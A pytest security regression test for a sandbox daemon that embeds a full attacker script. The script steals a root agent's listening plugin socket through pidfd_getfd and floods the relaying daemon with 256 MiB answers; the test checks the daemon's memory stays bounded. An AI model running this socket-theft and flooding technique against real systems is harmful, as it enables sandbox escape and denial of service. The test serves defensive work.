"""A sandbox floods the plugin route's answer to make the local metro's daemon (root, outside
every sandbox limit) hold it.

The attacker is the sandbox of an `exec: plugin` session: its command takes the agent's
listening plugin socket (`pidfd_getfd`: the agent and the commands are the same root inside
the namespace) and answers the next plugin requests itself, each with 256 MiB. The daemon
relays those requests; a daemon that read an answer whole before passing it on held it in its
own memory, so a 128 MiB sandbox made it hold gigabytes.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from tests.support.ukc import Ukc

pytestmark = pytest.mark.metro

#: the attacker's program inside the sandbox (stdlib only)
THIEF = r"""
import ctypes, os, socket, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
stolen = None
for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    pidfd = libc.syscall(SYS_PIDFD_OPEN, int(pid), 0)
    if pidfd < 0:
        continue
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
                continue
        except OSError:
            continue
        mine = libc.syscall(SYS_PIDFD_GETFD, pidfd, int(fd), 0)
        if mine < 0:
            continue
        sock = socket.socket(fileno=mine)
        if str(sock.getsockname()).endswith("plugin.sock") and sock.getsockopt(
            socket.SOL_SOCKET, socket.SO_ACCEPTCONN
        ):
            stolen = sock
            break
        sock.detach()
        os.close(mine)
    os.close(pidfd)
    if stolen is not None:
        break
if stolen is None:
    sys.exit("no plugin socket to steal")
print("stolen", flush=True)
if os.fork():
    os._exit(0)
os.setsid()
for fd in (0, 1, 2):
    os.dup2(os.open("/dev/null", os.O_RDWR), fd)
time.sleep(3)  # the apply that ran this finishes first, on answers of the agent
SIZE = 256 << 20
PIECE = b"THIEF" + b"A" * ((1 << 20) - 5)


def serve():
    while True:
        conn, _ = stolen.accept()
        try:
            conn.recv(65536)
            conn.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                b"Content-Length: %d\r\n\r\n" % SIZE
            )
            for _ in range(SIZE // len(PIECE)):
                conn.sendall(PIECE)
        except OSError:
            pass
        conn.close()


# several acceptors: the agent still accepts on the same socket, and most requests are ours
for _ in range(7):
    threading.Thread(target=serve, daemon=True).start()
serve()
"""

SPEC = """\
name: flood
directory: ./work
exec: plugin
commands:
  - name: steal
    run: python3 thief.py
"""


def _kib(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} for pid {pid}")


def test_a_sandbox_answering_plugin_requests_with_hundreds_of_mib_cannot_make_the_daemon_hold_them(
    ukc: Ukc,
) -> None:
    if os.geteuid() != 0:
        pytest.skip("resetting the daemon's peak memory (clear_refs) needs root")
    work = ukc.project / "work"
    work.mkdir()
    (work / "thief.py").write_text(THIEF)
    ukc.write_spec(SPEC)
    proc = ukc.run("apply", "session.yaml", check=0)
    assert "stolen" in proc.stdout, proc.stdout + proc.stderr
    (inst,) = [i for i in ukc.instances() if i["name"].endswith("-flood")]
    base = f"/v1/instances/{inst['uuid']}/plugins/sandbox"
    pid = ukc.metro.pid
    with ukc.api() as client:
        client.put("/v1/instances/start", json=[{"uuid": inst["uuid"], "timeout_s": 30}])
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            # the daemon's peak resident memory, from now on (VmHWM, reset by writing 5)
            Path(f"/proc/{pid}/clear_refs").write_text("5")
            before = _kib(pid, "VmRSS")
            with client.stream("GET", f"{base}/commands", timeout=120) as answer:
                pieces = answer.iter_bytes()
                head = next(pieces, b"")
                if not head.startswith(b"THIEF"):
                    continue  # the agent took this one
                got = len(head) + sum(len(p) for p in pieces)
            grown_mib = (_kib(pid, "VmHWM") - before) // 1024
            assert got == 256 << 20
            assert grown_mib < 64, f"the daemon grew by {grown_mib} MiB relaying the answer"
            return
    pytest.fail("the thief never answered a plugin request")
